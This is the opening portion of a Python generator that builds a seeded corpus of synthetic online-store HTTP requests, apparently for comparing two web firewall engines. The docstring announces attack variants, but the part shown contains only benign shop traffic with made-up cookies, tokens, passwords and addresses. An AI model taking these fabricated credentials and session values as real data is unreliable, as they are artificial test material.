#!/usr/bin/env python3
"""A deterministic corpus of online-store traffic for the differential run:
ordinary requests of WooCommerce, Magento, Shopware, PrestaShop and
headless (Medusa, Saleor) shops — searches with quotes and accents,
checkout forms with real-looking addresses, JSON carts, GraphQL, reviews
with HTML, uploads, webhooks, the cookies those platforms set — and attack
variants (SQLi, XSS, RCE, LFI, RFI, PHP, Java, SSTI, session fixation,
scanners, protocol oddities) placed in the query, the body (form, JSON,
XML, multipart), cookies, headers, the path and argument names; and edge
cases of parsing and decoding (JSON escapes and nesting, repeated and
odd arguments, cookie syntax, multipart and XML corners, encodings and
shell/SQL/HTML evasions) that exercise the engine's variables and
transformations rather than the rules' patterns.

Owns: generating raw HTTP/1.1 requests from a seed. The same seed and size
always give the same bytes. Must not depend on either engine, and holds no
expectation of what should match: the run compares engines with each
other.

    python3 store_corpus.py [--seed N] [--size N] [--dump DIR] [--list]
"""

from __future__ import annotations

import argparse
import base64
import json
import random
import sys
from pathlib import Path
from urllib.parse import quote, quote_plus

DEFAULT_SEED = 20240611
DEFAULT_SIZE = 2400
# Shares of the corpus.
ATTACK_SHARE = 0.30
ODDITY_SHARE = 0.05
EDGE_SHARE = 0.15

HOSTS = ["shop.example.com", "www.boutique-exemple.fr", "store.example.de", "localhost"]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "WooCommerce/8.9.1 Hookshot (WordPress/6.5.3)",
    "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
LANGS = ["en-US,en;q=0.9", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "de-DE,de;q=0.9,en;q=0.6", "es-ES,es;q=0.9", "pl-PL,pl;q=0.9,en-US;q=0.8"]

SEARCHES = [
    "red dress", "men's shoes", '"running shoes" size 42', "crème brûlée dish", "café au lait mug",
    "Größe XL hoodie", "jalapeño sauce", "naïve art print", "T-shirt 100% cotton", "kids' toys & games",
    "50% off", "iphone 15 case", "o'neill wetsuit", "levi's 501", "table 120x80 cm",
    "bière artisanale", "Łódź koszulka", "séance photo", "«cadeau» noël", "size 10 1/2",
    "sale -shoes", "pink OR purple", "what's new", "ring (silver)", "vinyl 12\"",
    "smörgåsbord plate", "日本茶", "chaussures d'été", "#summer", "$20 gift card",
    "select tool kit", "union jack flag", "drop earrings", "update firmware cable", "script font poster",
    "the order of the phoenix", "alert whistle", "table & chairs", "1/2 price", "100 ml",
]
PRODUCTS = [
    ("merino-wool-sweater", "Merino Wool Sweater"), ("leather-wallet", "Leather Wallet"),
    ("espresso-cup-set", "Espresso Cup Set"), ("running-shoe-x2", "Running Shoe X2"),
    ("organic-cotton-tee", "Organic Cotton Tee"), ("ceramic-vase-blue", "Ceramic Vase (Blue)"),
    ("kids-rain-jacket", "Kids' Rain Jacket"), ("chef-knife-8in", 'Chef Knife 8"'),
    ("yoga-mat-pro", "Yoga Mat Pro"), ("creme-de-marrons", "Crème de marrons"),
]
CATEGORIES = ["clothing", "accessories", "home-garden", "kitchen", "sale", "new-arrivals", "kids", "sports/outdoor"]
FIRST = ["Anna", "José", "Zoë", "Mary-Jane", "Łukasz", "Søren", "Amélie", "O'Neil", "Jean-Luc", "Mohammed", "Siobhán", "Chloé"]
LAST = ["O'Brien", "Müller", "García-López", "D'Angelo", "van der Berg", "Nowak", "Smith", "Ødegård", "Dupont", "MacDonald", "St. John", "Ng"]
STREETS = [
    "12 Rue de l'Église", "Hauptstraße 5", "1600 Amphitheatre Pkwy, Apt #4", "221B Baker Street",
    "ul. Piotrkowska 104/6", "Calle de Alcalá, 48 - 3º izq.", "5th Ave & 42nd St", "Flat 3, 10 King's Road",
    "Route de Genève 7", "P.O. Box 1234", "Lot 7; Bldg C", "Am Markt 1 (Hinterhaus)",
]
CITIES = [("Zürich", "8001", "CH"), ("São Paulo", "01310-100", "BR"), ("Kraków", "31-001", "PL"),
          ("Montréal", "H2X 1Y4", "CA"), ("London", "SW1A 1AA", "GB"), ("Berlin", "10115", "DE"),
          ("Paris", "75001", "FR"), ("New York", "10001", "US"), ("Dublin", "D02 XY45", "IE")]
COMPANIES = ["", "Smith & Sons Ltd.", "Müller GmbH", "ACME, Inc.", "L'Atelier SARL", "Design/Build Co."]
COMMENTS = [
    "", "Please leave at the back door; don't ring the bell!", "Gift wrap — it's a surprise :)",
    "Deliver after 5pm please", "Call me at +33 6 12 34 56 78 if needed", "N/A",
    "The code \"SUMMER10\" didn't work?", "Rez-de-chaussée, porte à gauche", "2nd floor, use the side entrance (code 1234#)",
]
REVIEWS = [
    "Great quality, fits perfectly! 5/5 would buy again.",
    "It's \"true to size\" — I'm 1.80m and the L fits.",
    "<p>Love it! The <b>colour</b> is exactly as pictured.</p>",
    "Arrived late :( but the product is ok. Select a size up.",
    "Très bon produit, je recommande à 100 % !",
    "Not worth the money... the zip broke after 2 weeks & support didn't answer.",
    "<ul><li>soft</li><li>warm</li><li>washable at 30°C</li></ul>",
    "I ordered 2 and got 1; customer service fixed it within a day.",
    "See <a href=\"https://www.youtube.com/watch?v=abc123\">my unboxing</a> 😊",
    "Perfect for my wife's birthday. She said \"wow\"!",
    "Qualität ist super, Lieferung dauerte aber 5 Tage.",
    "Does what it says on the tin; 4 stars because the box was damaged.",
    "Used it for a month -- no complaints. #happy",
    "Bought it for my son (age 10) and he's using it every day <3",
]
PASSWORDS = ["S3cure!Pass", "p@ss'word#1", "Tr0ub4dor&3", "correct horse battery staple", "Zaq1@wsx", "<>Pa$$w0rd"]


class Gen:
    """Builds requests from one random stream."""

    def __init__(self, seed: int):
        self.r = random.Random(seed)

    # ------------------------------------------------------------ helpers
    def pick(self, seq):
        return self.r.choice(seq)

    def hexs(self, n: int) -> str:
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def alnum(self, n: int) -> str:
        return "".join(self.r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))

    def email(self) -> str:
        f = self.pick(["anna", "j.garcia", "zoe+shop", "lukasz.nowak", "o.brien", "mj_smith"])
        return f"{f}{self.r.randint(1, 99)}@{self.pick(['example.com', 'mail.example.org', 'example.co.uk'])}"

    def ts(self) -> int:
        return 1714000000 + self.r.randint(0, 9000000)

    def cookies(self, platform: str) -> str:
        c = []
        if platform == "woo":
            h = self.hexs(32)
            c.append(f"wordpress_logged_in_{h}=anna%7C{self.ts()}%7C{self.alnum(43)}%7C{self.hexs(64)}" if self.r.random() < 0.3 else "")
            c.append("woocommerce_items_in_cart=1")
            c.append(f"woocommerce_cart_hash={self.hexs(32)}")
            c.append(f"wp_woocommerce_session_{h}={self.r.randint(1, 9999)}%7C%7C{self.ts()}%7C%7C{self.ts()}%7C%7C{self.hexs(32)}")
            c.append("wp-wpml_current_language=en")
        elif platform == "magento":
            c.append(f"PHPSESSID={self.alnum(26).lower()}")
            c.append(f"form_key={self.alnum(16)}")
            c.append("mage-cache-storage=%7B%7D")
            c.append("mage-cache-storage-section-invalidation=%7B%7D")
            c.append("mage-cache-sessid=true")
            c.append(f"private_content_version={self.hexs(32)}")
            c.append(f"X-Magento-Vary={self.hexs(40)}")
            c.append("section_data_ids=%7B%22cart%22%3A" + str(self.ts()) + "%2C%22customer%22%3A" + str(self.ts()) + "%7D")
            c.append("mage-messages=")
        elif platform == "shopware":
            c.append(f"session-={self.alnum(26).lower()}")
            c.append(f"sw-context-token={self.alnum(32)}")
            c.append("sw-states=" + self.pick(["cart-filled", "logged-in%2Ccart-filled"]))
            c.append(f"sw-cache-hash={self.hexs(32)}")
            c.append("cookie-preference=1")
        elif platform == "presta":
            c.append(f"PrestaShop-{self.hexs(32)}=def50200{self.hexs(120)}")
        else:
            c.append(f"_medusa_jwt=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.{base64.urlsafe_b64encode(json.dumps({'customer_id': 'cus_' + self.alnum(26), 'iat': self.ts()}).encode()).decode().rstrip('=')}.{self.alnum(43)}")
            c.append(f"_medusa_cart_id=cart_{self.alnum(26)}")
        if self.r.random() < 0.7:
            c.append(f"_ga=GA1.1.{self.r.randint(10**8, 10**9)}.{self.ts()}")
            c.append(f"_ga_{self.alnum(10).upper()}=GS1.1.{self.ts()}.3.1.{self.ts()}.0.0.0")
        if self.r.random() < 0.4:
            c.append(f"_fbp=fb.1.{self.ts()}123.{self.r.randint(10**8, 10**9)}")
        if self.r.random() < 0.3:
            c.append("cookielawinfo-checkbox-analytics=yes; CookieConsent={stamp:%27" + self.alnum(20) + "%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:false%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1%2Cutc:" + str(self.ts()) + "123}")
        return "; ".join(x for x in c if x)

    def request(self, method, target, *, platform="woo", headers=None, body=b"", ctype=None,
                ajax=False, cookie=True, host=None, extra_first=None) -> bytes:
        host = host or self.pick(HOSTS)
        h = [("Host", host)]
        if extra_first:
            h += extra_first
        h.append(("User-Agent", self.pick(USER_AGENTS)))
        if ajax:
            h.append(("Accept", "application/json, text/javascript, */*; q=0.01"))
            h.append(("X-Requested-With", "XMLHttpRequest"))
        else:
            h.append(("Accept", ACCEPT_HTML))
        h.append(("Accept-Language", self.pick(LANGS)))
        h.append(("Accept-Encoding", "gzip, deflate, br"))
        if self.r.random() < 0.7:
            h.append(("Referer", f"https://{host}/" + self.pick(["", "shop/", "cart/", "checkout/", "product/leather-wallet/"])))
        if method in ("POST", "PUT", "PATCH", "DELETE") and self.r.random() < 0.6:
            h.append(("Origin", f"https://{host}"))
        if cookie:
            ck = self.cookies(platform)
            if ck:
                h.append(("Cookie", ck))
        if headers:
            h += headers
        if body or method in ("POST", "PUT", "PATCH"):
            if ctype:
                h.append(("Content-Type", ctype))
            h.append(("Content-Length", str(len(body))))
        if self.r.random() < 0.3:
            h += [("Sec-Fetch-Dest", "document" if not ajax else "empty"), ("Sec-Fetch-Mode", "navigate" if not ajax else "cors"), ("Sec-Fetch-Site", "same-origin")]
        h.append(("Connection", self.pick(["keep-alive", "close"])))
        out = f"{method} {target} HTTP/1.1\r\n".encode()
        for k, v in h:
            out += k.encode() + b": " + v.encode("utf-8") + b"\r\n"
        return out + b"\r\n" + body

    def form(self, pairs) -> bytes:
        return "&".join(f"{quote_plus(k)}={quote_plus(str(v))}" for k, v in pairs).encode()

    def query(self, pairs) -> str:
        plus = self.r.random() < 0.6
        enc = quote_plus if plus else (lambda s: quote(s, safe=""))
        return "&".join(f"{enc(k)}={enc(str(v))}" for k, v in pairs)

    def multipart(self, fields, files=()) -> tuple[bytes, str]:
        b = "----WebKitFormBoundary" + self.alnum(16)
        out = b""
        for k, v in fields:
            out += f"--{b}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n".encode() + str(v).encode() + b"\r\n"
        for k, fname, ctype, data in files:
            out += f"--{b}\r\nContent-Disposition: form-data; name=\"{k}\"; filename=\"{fname}\"\r\nContent-Type: {ctype}\r\n\r\n".encode() + data + b"\r\n"
        out += f"--{b}--\r\n".encode()
        return out, f"multipart/form-data; boundary={b}"

    def utm(self) -> list:
        if self.r.random() < 0.25:
            return [("utm_source", self.pick(["google", "newsletter", "facebook"])), ("utm_medium", self.pick(["cpc", "email"])), ("utm_campaign", self.pick(["summer_sale", "black-friday-2024", "rentrée"]))]
        if self.r.random() < 0.15:
            return [("gclid", self.alnum(40))]
        if self.r.random() < 0.1:
            return [("fbclid", "IwAR" + self.alnum(40))]
        return []

    def address(self, prefix: str) -> list:
        city, pc, country = self.pick(CITIES)
        return [
            (f"{prefix}first_name", self.pick(FIRST)), (f"{prefix}last_name", self.pick(LAST)),
            (f"{prefix}company", self.pick(COMPANIES)), (f"{prefix}country", country),
            (f"{prefix}address_1", self.pick(STREETS)), (f"{prefix}address_2", self.pick(["", "Apt 4B", "c/o Reception", "3ème étage"])),
            (f"{prefix}city", city), (f"{prefix}postcode", pc),
            (f"{prefix}phone", self.pick(["+49 (0)30 1234-567", "+1 415-555-0132", "06 12 34 56 78", "+44 20 7946 0958"])),
            (f"{prefix}email", self.email()),
        ]

    # ------------------------------------------------------------ benign traffic
    def benign(self):
        kind = self.r.choices(
            ["browse", "search", "add_to_cart", "checkout", "json_cart", "review", "login", "graphql",
             "asset", "ajax", "upload", "xml", "webhook", "newsletter", "preflight", "account"],
            weights=[14, 14, 9, 8, 9, 7, 5, 5, 7, 7, 3, 2, 3, 2, 2, 2])[0]
        return kind, getattr(self, "b_" + kind)()

    def b_browse(self):
        p = self.pick(["woo", "magento", "shopware", "presta"])
        slug, _ = self.pick(PRODUCTS)
        q = self.utm()
        if p == "woo":
            path = self.pick([f"/product/{slug}/", f"/product-category/{self.pick(CATEGORIES)}/", "/shop/", "/cart/", "/checkout/", "/my-account/orders/"])
            if self.r.random() < 0.3:
                q += [("orderby", self.pick(["price", "price-desc", "popularity"])), ("filter_color", self.pick(["blue", "red,green"]))]
            if self.r.random() < 0.2:
                q += [("add-to-cart", self.r.randint(10, 999))]
        elif p == "magento":
            path = self.pick([f"/{slug}.html", f"/{self.pick(CATEGORIES)}.html", "/checkout/cart/", "/customer/account/", "/checkout/#shipping"])
            if self.r.random() < 0.3:
                q += [("product_list_order", "price"), ("p", self.r.randint(1, 9)), ("color", self.r.randint(40, 60))]
        elif p == "shopware":
            path = self.pick([f"/{slug.replace('-', '_').title()}/SW1000{self.r.randint(1, 99)}", "/checkout/cart", "/account", f"/{self.pick(CATEGORIES).title()}/"])
            if self.r.random() < 0.3:
                q += [("order", "price-asc"), ("p", self.r.randint(1, 5)), ("properties", f"{self.hexs(32)}|{self.hexs(32)}")]
        else:
            path = self.pick([f"/{self.r.randint(2, 9)}-{self.pick(CATEGORIES)}", f"/men/{self.r.randint(1, 30)}-{slug}.html", "/index.php?controller=cart&action=show"])
            if self.r.random() < 0.3:
                q += [("q", "Categories-" + self.pick(["Men", "Women"]) + "/Size-" + self.pick(["S", "M-L"]))]
        target = path + (("&" if "?" in path else "?") + self.query(q) if q else "")
        return self.request(self.pick(["GET", "GET", "GET", "HEAD"]), target, platform=p)

    def b_search(self):
        p = self.pick(["woo", "magento", "shopware", "presta", "headless"])
        term = self.pick(SEARCHES)
        if p == "woo":
            q = [("s", term), ("post_type", "product")]
            path = "/"
        elif p == "magento":
            q = [("q", term)]
            path = "/catalogsearch/result/"
        elif p == "shopware":
            q = [("search", term)]
            path = self.pick(["/search", "/suggest"])
        elif p == "presta":
            q = [("controller", "search"), ("s", term)]
            path = "/index.php"
        else:
            q = [("q", term), ("limit", 24), ("offset", 0)]
            path = "/store/products"
        return self.request("GET", path + "?" + self.query(q + self.utm()), platform=p, ajax=p == "headless")

    def b_add_to_cart(self):
        p = self.pick(["woo", "magento", "shopware", "presta"])
        if p == "woo":
            body = self.form([("product_sku", f"SKU-{self.r.randint(100, 999)}"), ("product_id", self.r.randint(10, 999)), ("quantity", self.r.randint(1, 3))])
            return self.request("POST", "/?wc-ajax=add_to_cart", platform=p, body=body, ctype="application/x-www-form-urlencoded; charset=UTF-8", ajax=True)
        if p == "magento":
            uenc = base64.b64encode(f"https://{self.pick(HOSTS)}/{self.pick(PRODUCTS)[0]}.html".encode()).decode().replace("=", "~").replace("/", "_").replace("+", "-")
            body = self.form([("product", self.r.randint(1, 2000)), ("selected_configurable_option", ""), ("related_product", ""), ("item", self.r.randint(1, 2000)), ("form_key", self.alnum(16)), ("super_attribute[93]", self.r.randint(49, 60)), ("super_attribute[144]", self.r.randint(160, 170)), ("qty", 1)])
            return self.request("POST", f"/checkout/cart/add/uenc/{uenc}/product/{self.r.randint(1, 2000)}/", platform=p, body=body, ctype="application/x-www-form-urlencoded; charset=UTF-8", ajax=True)
        if p == "shopware":
            li = self.hexs(32)
            body = self.form([("redirectTo", "frontend.cart.offcanvas"), (f"lineItems[{li}][id]", li), (f"lineItems[{li}][type]", "product"), (f"lineItems[{li}][referencedId]", li), (f"lineItems[{li}][stackable]", 1), (f"lineItems[{li}][removable]", 1), (f"lineItems[{li}][quantity]", self.r.randint(1, 4))])
            return self.request("POST", "/checkout/line-item/add", platform=p, body=body, ctype="application/x-www-form-urlencoded")
        body = self.form([("token", self.hexs(32)), ("id_product", self.r.randint(1, 30)), ("id_customization", 0), ("group[1]", self.r.randint(1, 4)), ("qty", 1), ("add", 1), ("action", "update")])
        return self.request("POST", "/index.php?controller=cart", platform=p, body=body, ctype="application/x-www-form-urlencoded; charset=UTF-8", ajax=True)

    def b_checkout(self):
        p = self.pick(["woo", "shopware", "presta"])
        if p == "woo":
            pairs = self.address("billing_") + [("ship_to_different_address", self.pick(["", "1"]))]
            if pairs[-1][1]:
                pairs += self.address("shipping_")
            pairs += [("order_comments", self.pick(COMMENTS)), ("shipping_method[0]", "flat_rate:1"), ("payment_method", self.pick(["stripe", "bacs", "paypal", "cod"])),
                      ("terms", "on"), ("terms-field", 1), ("woocommerce-process-checkout-nonce", self.hexs(10)), ("_wp_http_referer", "/?wc-ajax=update_order_review")]
            return self.request("POST", "/?wc-ajax=checkout", platform=p, body=self.form(pairs), ctype="application/x-www-form-urlencoded; charset=UTF-8", ajax=True)
        if p == "shopware":
            a = dict(self.address(""))
            pairs = [("salutationId", self.hexs(32)), ("firstName", a["first_name"]), ("lastName", a["last_name"]), ("email", a["email"]),
                     ("billingAddress[street]", a["address_1"]), ("billingAddress[zipcode]", a["postcode"]), ("billingAddress[city]", a["city"]),
                     ("billingAddress[countryId]", self.hexs(32)), ("guest", 1), ("acceptedDataProtection", 1), ("tos", "on"), ("customerComment", self.pick(COMMENTS))]
            return self.request("POST", self.pick(["/account/register", "/checkout/order"]), platform=p, body=self.form(pairs), ctype="application/x-www-form-urlencoded")
        a = dict(self.address(""))
        pairs = [("id_address", 0), ("id_customer", self.r.randint(1, 500)), ("token", self.hexs(32)), ("firstname", a["first_name"]), ("lastname", a["last_name"]),
                 ("company", a["company"]), ("address1", a["address_1"]), ("address2", a["address_2"]), ("postcode", a["postcode"]), ("city", a["city"]),
                 ("id_country", self.r.randint(1, 20)), ("phone", a["phone"]), ("saveAddress", "delivery"), ("use_same_address", 1), ("submitAddress", 1)]
        return self.request("POST", "/order?id_address=0", platform=p, body=self.form(pairs), ctype="application/x-www-form-urlencoded")

    def b_json_cart(self):
        p = self.pick(["woo", "magento", "shopware", "headless"])
        if p == "woo":
            body = self.pick([
                {"id": self.r.randint(10, 999), "quantity": self.r.randint(1, 4), "variation": [{"attribute": "pa_size", "value": self.pick(["s", "m", "xl"])}]},
                {"requests": [{"path": "/wc/store/v1/cart/update-item", "method": "POST", "body": {"key": self.hexs(32), "quantity": 2}, "cache": "no-store", "headers": {"Nonce": self.hexs(10)}}]},
                {"coupon_code": self.pick(["SUMMER10", "welcome-5", "VIP_2024"])},
            ])
            path = self.pick(["/wp-json/wc/store/v1/cart/add-item", "/wp-json/wc/store/v1/batch?_locale=user", "/wp-json/wc/store/v1/cart/apply-coupon"])
            hdr = [("Nonce", self.hexs(10))]
        elif p == "magento":
            a = dict(self.address(""))
            body = {"addressInformation": {"shipping_address": {"countryId": a["country"], "regionId": str(self.r.randint(1, 90)), "street": [a["address_1"], a["address_2"]],
                    "company": a["company"], "telephone": a["phone"], "postcode": a["postcode"], "city": a["city"], "firstname": a["first_name"], "lastname": a["last_name"]},
                    "billing_address": {"countryId": a["country"], "street": [a["address_1"]], "city": a["city"], "firstname": a["first_name"], "lastname": a["last_name"], "saveInAddressBook": None},
                    "shipping_method_code": "flatrate", "shipping_carrier_code": "flatrate", "extension_attributes": {}}}
            path = f"/rest/default/V1/guest-carts/{self.alnum(32)}/shipping-information"
            hdr = []
        elif p == "shopware":
            body = {"items": [{"type": "product", "referencedId": self.hexs(32), "quantity": self.r.randint(1, 3)}]}
            path = "/store-api/checkout/cart/line-item"
            hdr = [("sw-access-key", "SWSC" + self.alnum(22).upper()), ("sw-context-token", self.alnum(32))]
        else:
            body = self.pick([
                {"variant_id": "variant_" + self.alnum(26).upper(), "quantity": self.r.randint(1, 3), "metadata": {"gift_note": self.pick(COMMENTS)}},
                {"email": self.email(), "shipping_address": {"first_name": self.pick(FIRST), "last_name": self.pick(LAST), "address_1": self.pick(STREETS), "city": self.pick(CITIES)[0], "country_code": "de", "postal_code": "10115"}},
                {"provider_id": "stripe", "data": {"payment_method_types": ["card"]}},
            ])
            path = f"/store/carts/cart_{self.alnum(26).upper()}" + self.pick(["/line-items", "", "/payment-sessions"])
            hdr = [("x-publishable-api-key", "pk_" + self.hexs(64))]
        raw = json.dumps(body, ensure_ascii=self.r.random() < 0.5).encode()
        return self.request(self.pick(["POST", "POST", "PUT"]), path, platform=p, body=raw, ctype=self.pick(["application/json", "application/json; charset=utf-8"]), ajax=True, headers=hdr)

    def b_review(self):
        p = self.pick(["woo", "magento", "presta"])
        text = self.pick(REVIEWS)
        if self.r.random() < 0.3:
            text += " " + self.pick(REVIEWS)
        if p == "woo":
            body = self.form([("rating", self.r.randint(1, 5)), ("comment", text), ("author", f"{self.pick(FIRST)} {self.pick(LAST)}"), ("email", self.email()), ("wp-comment-cookies-consent", "yes"),
                              ("submit", "Submit"), ("comment_post_ID", self.r.randint(10, 999)), ("comment_parent", 0)])
            return self.request("POST", "/wp-comments-post.php", platform=p, body=body, ctype="application/x-www-form-urlencoded")
        if p == "magento":
            body = self.form([("form_key", self.alnum(16)), ("ratings[4]", self.r.randint(16, 20)), ("validate_rating", ""), ("nickname", self.pick(FIRST)), ("title", self.pick(["Great!", "Meh...", "Not bad", "À recommander"])), ("detail", text)])
            return self.request("POST", f"/review/product/post/id/{self.r.randint(1, 2000)}/", platform=p, body=body, ctype="application/x-www-form-urlencoded")
        body = self.form([("id_product", self.r.randint(1, 30)), ("criterion[1]", self.r.randint(1, 5)), ("comment_title", "Avis"), ("comment_content", text), ("customer_name", self.pick(FIRST))])
        return self.request("POST", "/module/productcomments/PostComment?id_product=3", platform=p, body=body, ctype="application/x-www-form-urlencoded; charset=UTF-8", ajax=True)

    def b_login(self):
        p = self.pick(["woo", "magento", "shopware", "wp"])
        pw = self.pick(PASSWORDS)
        if p in ("woo", "wp"):
            if p == "wp":
                body = self.form([("log", self.email()), ("pwd", pw), ("rememberme", "forever"), ("wp-submit", "Log In"), ("redirect_to", f"https://{self.pick(HOSTS)}/wp-admin/"), ("testcookie", 1)])
                return self.request("POST", "/wp-login.php", platform="woo", body=body, ctype="application/x-www-form-urlencoded", headers=[("Cookie", "wordpress_test_cookie=WP%20Cookie%20check")], cookie=False)
            body = self.form([("username", self.email()), ("password", pw), ("woocommerce-login-nonce", self.hexs(10)), ("_wp_http_referer", "/my-account/"), ("login", "Log in")])
            return self.request("POST", "/my-account/", platform=p, body=body, ctype="application/x-www-form-urlencoded")
        if p == "magento":
            body = self.form([("form_key", self.alnum(16)), ("login[username]", self.email()), ("login[password]", pw), ("send", "")])
            return self.request("POST", "/customer/account/loginPost/referer/" + base64.b64encode(b"https://shop.example.com/checkout/").decode().rstrip("=") + "/", platform=p, body=body, ctype="application/x-www-form-urlencoded")
        body = self.form([("username", self.email()), ("password", pw), ("redirectTo", "frontend.account.home.page"), ("redirectParameters", "[]")])
        return self.request("POST", "/account/login", platform=p, body=body, ctype="application/x-www-form-urlencoded")

    def b_graphql(self):
        term = self.pick(SEARCHES).replace('"', '\\"')
        q = self.pick([
            {"query": f'query {{ products(search: "{term}", pageSize: 12) {{ items {{ name sku price_range {{ minimum_price {{ final_price {{ value currency }} }} }} }} total_count }} }}'},
            {"query": "mutation addProductsToCart($cartId: String!, $items: [CartItemInput!]!) { addProductsToCart(cartId: $cartId, cartItems: $items) { cart { id total_quantity } user_errors { code message } } }",
             "variables": {"cartId": self.alnum(32), "items": [{"sku": f"MS-{self.r.randint(100, 999)}", "quantity": 1}]}, "operationName": "addProductsToCart"},
            {"query": "mutation checkoutCreate($input: CheckoutCreateInput!) { checkoutCreate(input: $input) { checkout { id token totalPrice { gross { amount currency } } } errors { field message } } }",
             "variables": {"input": {"channel": "default-channel", "email": self.email(), "lines": [{"quantity": 1, "variantId": base64.b64encode(f"ProductVariant:{self.r.randint(1, 400)}".encode()).decode()}]}}},
            {"query": "{ customer { firstname lastname email addresses { street city postcode } } }"},
        ])
        if self.r.random() < 0.3:
            return self.request("GET", "/graphql?" + self.query([("query", q["query"])]), platform="magento", ajax=True, headers=[("Store", "default")])
        return self.request("POST", "/graphql", platform=self.pick(["magento", "headless"]), body=json.dumps(q).encode(), ctype="application/json", ajax=True)

    def b_asset(self):
        path = self.pick([
            "/wp-content/themes/storefront/style.css?ver=4.5.5", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
            "/static/version1714567890/frontend/Magento/luma/en_US/mage/requirejs/mixins.js",
            "/theme/" + self.hexs(32) + "/css/all.css", "/themes/classic/assets/cache/bottom-0d1f2e.js",
            "/media/catalog/product/cache/" + self.hexs(32) + "/m/s/ms01-blue_main.jpg", "/favicon.ico", "/robots.txt",
            "/wp-content/uploads/2024/05/IMG_4021-300x300.jpg", "/fonts/Inter-Regular.woff2", "/sitemap_index.xml", "/feed/",
            "/bundles/storefront/storefront/js/storefront.js?1714567890",
        ])
        return self.request("GET", path, platform=self.pick(["woo", "magento", "shopware", "presta"]), headers=[("If-None-Match", f'W/"{self.hexs(16)}"')] if self.r.random() < 0.3 else None)

    def b_ajax(self):
        p = self.pick(["woo", "magento", "shopware", "wp"])
        if p == "woo":
            return self.request("POST", "/?wc-ajax=" + self.pick(["get_refreshed_fragments", "update_order_review", "apply_coupon"]), platform=p, body=self.form([("time", self.ts() * 1000), ("security", self.hexs(10)), ("coupon_code", self.pick(["", "SUMMER10"]))]), ctype="application/x-www-form-urlencoded; charset=UTF-8", ajax=True)
        if p == "magento":
            q = [("sections", self.pick(["cart,messages", "customer,compare-products,last-ordered-items,cart,directory-data,captcha,instant-purchase,loggedAsCustomer,persistent,review,wishlist,recently_viewed_product,recently_compared_product,product_data_storage,paypal-billing-agreement"])), ("force_new_section_timestamp", "true"), ("_", self.ts() * 1000)]
            return self.request("GET", "/customer/section/load/?" + self.query(q), platform=p, ajax=True)
        if p == "shopware":
            return self.request("GET", "/widgets/checkout/info?" + self.query([("_", self.ts())]), platform=p, ajax=True)
        body = self.form([("action", self.pick(["heartbeat", "woocommerce_get_variation", "yith_wcwl_add_to_wishlist", "flatsome_quickview"])), ("_nonce", self.hexs(10)), ("data[wp-auth-check]", "true"), ("interval", 60), ("screen_id", "front")])
        return self.request("POST", "/wp-admin/admin-ajax.php", platform="woo", body=body, ctype="application/x-www-form-urlencoded; charset=UTF-8", ajax=True)

    def b_upload(self):
        img = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(self.r.randrange(256) for _ in range(self.r.randint(40, 200)))
        fields = [("name", f"{self.pick(FIRST)} {self.pick(LAST)}"), ("email", self.email()), ("subject", self.pick(["Order #10023 – damaged", "Question about sizes", "Retour / échange"])),
                  ("message", self.pick(COMMENTS + REVIEWS)), ("_wpcf7", self.r.randint(1, 99)), ("_wpcf7_version", "5.9.3"), ("_wpcf7_locale", "en_US")]
        files = [("file-attachment", self.pick(["photo.png", "IMG_2024-05-01 12.30.55.png", "reçu.png"]), "image/png", img)]
        body, ct = self.multipart(fields, files)
        return self.request("POST", "/wp-json/contact-form-7/v1/contact-forms/12/feedback", platform="woo", body=body, ctype=ct, ajax=True)

    def b_xml(self):
        oid = self.r.randint(10000, 99999)
        body = self.pick([
            f'<?xml version="1.0" encoding="UTF-8"?>\n<notification><merchantReference>order-{oid}</merchantReference><amount currency="EUR">{self.r.randint(100, 9999)}</amount><status>AUTHORISED</status><shopper>{self.pick(LAST).replace("&", "&amp;")}</shopper></notification>',
            f'<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:urn="urn:Magento"><soapenv:Body><urn:salesOrderInfo><sessionId>{self.hexs(32)}</sessionId><orderIncrementId>{oid}</orderIncrementId></urn:salesOrderInfo></soapenv:Body></soapenv:Envelope>',
        ]).encode()
        return self.request("POST", self.pick(["/payment/notify", "/api/v2_soap", "/?wc-api=WC_Gateway_Adyen"]), platform="magento", body=body, ctype=self.pick(["text/xml; charset=utf-8", "application/xml"]), cookie=False)

    def b_webhook(self):
        ev = {"id": "evt_" + self.alnum(24), "object": "event", "api_version": "2024-04-10", "created": self.ts(), "type": self.pick(["payment_intent.succeeded", "charge.refunded", "checkout.session.completed"]),
